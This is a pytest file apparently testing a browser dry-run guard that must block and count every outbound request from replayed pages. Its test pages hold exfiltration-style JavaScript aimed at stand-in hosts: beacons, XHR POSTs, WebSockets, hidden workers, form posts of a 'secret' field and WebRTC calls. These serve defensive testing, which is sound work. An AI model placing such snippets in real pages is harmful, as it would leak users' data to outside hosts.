"""A page of a dry run may try what it likes: nothing leaves this machine, and every attempt is counted."""

from __future__ import annotations

import socket
from collections.abc import Callable
from urllib.parse import urlsplit

import pytest
from tests.replay.little_site import LittleSite

from casewright.flow.window import Open, Press, Target
from casewright.site.open import OpenVisit

pytestmark = pytest.mark.browser

Opened = Callable[[LittleSite], OpenVisit]
GO = Press(Target("page.go", "button", ("Go",)))

ATTEMPTS = {
    "image": "new Image().src = 'https://outside.example/image'",
    "script": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://outside.example/s'}))",
    "stylesheet": "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://outside.example/c>')",
    "fetch": "fetch('https://outside.example/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "fetch('https://outside.example/alive', {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "request": "{ const x = new XMLHttpRequest(); x.open('POST', 'https://outside.example/xhr'); x.send('all'); }",
    "beacon": "navigator.sendBeacon('https://outside.example/beacon', 'everything')",
    "event source": "new EventSource('https://outside.example/events')",
    "web socket": "new WebSocket('wss://outside.example/socket')",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://outside.example/frame></iframe>')",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=https://outside.example/pre>')",
    "plain http": "new Image().src = 'http://outside.example/plain'",
    "another seller's host": "new Image().src = 'https://sellercentral.amazon.de/image'",
    "what was not recorded": "new Image().src = '/never-recorded.png'",
}


def page_that(attempt: str) -> str:
    """A page that tries when its button is pressed, and then says so."""
    script = f"onclick = () => {{ {attempt}; setTimeout(() => {{ said.textContent = 'tried'; }}, 100) }}"
    return f"<button>Go</button><h1 id=said>waiting</h1><script>document.querySelector('button').{script}</script>"


def try_it(visit: OpenVisit) -> None:
    """Press the button and wait until the page says that it tried."""
    visit.window.do(Open("/"))
    visit.window.do(GO)
    while 'heading "tried"' not in (seen := visit.window.look()).text:
        assert visit.window.look(unlike=seen) != seen


@pytest.mark.parametrize("kind", ATTEMPTS)
def test_an_attempt_is_refused_and_counted_and_nothing_leaves(kind: str, opened: Opened) -> None:
    visit = opened(LittleSite({"/": page_that(ATTEMPTS[kind])}))

    try_it(visit)

    count = visit.guard()
    assert count.refused >= 1, count
    assert count.left == 0
    assert count.answered == 1


@pytest.mark.parametrize(
    ("kind", "url"),
    [
        ("fetch", "https://outside.example/fetch"),
        ("beacon", "https://outside.example/beacon"),
        ("web socket", "wss://outside.example/socket"),
        ("what was not recorded", "https://sellercentral.amazon.com/never-recorded.png"),
    ],
)
def test_the_count_names_what_was_refused(kind: str, url: str, opened: Opened) -> None:
    visit = opened(LittleSite({"/": page_that(ATTEMPTS[kind])}))

    try_it(visit)

    assert url in visit.guard().refused_urls


def test_a_form_to_another_host_is_refused(opened: Opened) -> None:
    form = "<form action=https://outside.example/form method=post><input name=secret value=1><button>Go</button></form>"
    visit = opened(LittleSite({"/": form}))
    visit.window.do(Open("/"))

    visit.window.do(GO)

    before = visit.window.look()
    while not visit.guard().refused:
        before = visit.window.look(unlike=before)
    assert visit.guard().refused_urls == ("https://outside.example/form",)
    assert visit.guard().left == 0


def test_a_popup_is_closed_and_its_page_never_asked_for(opened: Opened) -> None:
    visit = opened(LittleSite({"/": page_that("window.open('https://outside.example/popup')")}))

    try_it(visit)

    assert any("popup" in url for url in visit.guard().refused_urls)
    assert visit.guard().left == 0


def test_a_service_worker_is_never_installed(opened: Opened) -> None:
    page = page_that(
        "navigator.serviceWorker.register('/worker.js').then(r => { document.title = String(r?.scope) }, "
        "e => { document.title = 'no' })"
    )
    site = LittleSite({"/": page, "/worker.js": "self.addEventListener('fetch', () => 0)"})
    visit = opened(site)

    try_it(visit)

    assert "/worker.js" not in site.paths
    assert visit.guard().left == 0


@pytest.mark.parametrize(
    "inside",
    ["new WebSocket('wss://hidden.example/socket')", "fetch('https://hidden.example/fetch').catch(() => 0)"],
)
def test_what_a_worker_tries_behind_the_routing_ends_in_the_sink(inside: str, opened: Opened) -> None:
    code = f"new Worker(URL.createObjectURL(new Blob([`{inside}`])))"
    visit = opened(LittleSite({"/": page_that(code)}))

    try_it(visit)

    before = visit.window.look()
    while not any(urlsplit(url).hostname == "hidden.example" for url in visit.guard().refused_urls):
        later = visit.window.look(unlike=before)
        assert later == before, "the page shows nothing new, it only waits for the worker"
        before = later
    assert visit.guard().left == 0


def test_a_video_call_finds_no_way_out(opened: Opened) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outside:
        outside.bind(("127.0.0.1", 0))
        outside.setblocking(False)
        server = f"stun:127.0.0.1:{outside.getsockname()[1]}"
        call = (
            f"{{ const call = new RTCPeerConnection({{ iceServers: [{{ urls: '{server}' }}] }});"
            " call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer)) }"
        )
        visit = opened(LittleSite({"/": page_that(call)}))

        try_it(visit)
        visit.window.look(unlike=visit.window.look())  # as long as patience lasts: a call asks at once

        with pytest.raises(BlockingIOError):
            outside.recv(2048)
    assert visit.guard().left == 0


def test_a_download_does_not_reach_the_disk(opened: Opened, tmp_path) -> None:
    link = (
        "{ const a = document.createElement('a'); a.href = 'data:text/plain,hello'; a.download = 'h.txt'; a.click() }"
    )
    visit = opened(LittleSite({"/": page_that(link)}))

    try_it(visit)

    assert not list(tmp_path.rglob("h.txt"))
    assert visit.guard().left == 0


def test_what_is_recorded_is_answered_under_the_real_address(opened: Opened) -> None:
    site = LittleSite({"/": "<h1>Home</h1><img src=/logo.png>", "/logo.png": "not really a picture"})
    visit = opened(site)

    reading = visit.window.do(Open("/"))

    assert reading.text == "https://sellercentral.amazon.com/"
    before = visit.window.look()
    while "/logo.png" not in site.paths:  # a picture may come after the page that shows it
        later = visit.window.look(unlike=before)
        assert later == before, "a picture changes nothing that can be read"
    assert site.paths == ["/", "/logo.png"]
    assert {request.host for request in site.requests} == {"sellercentral.amazon.com"}
    assert visit.guard().refused == 0
    assert visit.guard().left == 0
